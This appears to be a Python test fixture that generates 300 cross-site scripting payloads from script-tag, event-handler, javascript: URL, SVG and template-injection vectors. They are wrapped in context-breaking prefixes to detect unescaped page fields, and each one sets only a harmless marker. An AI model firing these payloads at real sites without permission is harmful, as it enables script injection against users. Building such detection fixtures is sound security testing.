"""Three hundred texts that would run a script where one field of one page is not escaped."""

from __future__ import annotations

RUN = "window.__hit=1"
_VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</ScRiPt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src/onerror={RUN}//>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<base href=javascript:{RUN}//><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<div hx-on::load='{RUN}' hx-get=/sessions hx-trigger=load>x</div>",
    f"<div data-chart='x' style='background:url(javascript:{RUN})'>x</div>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
)
_WRAPS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--><!-- -->{}",
    "{{{{constructor.constructor('" + RUN + "')()}}}}{}",
    "\u202e\u200b{}\ufeff",
    "&lt;x&gt;&#60;{}",
)
PAYLOADS = tuple(wrap.format(vector) for vector in _VECTORS for wrap in _WRAPS)
assert len(set(PAYLOADS)) == 300
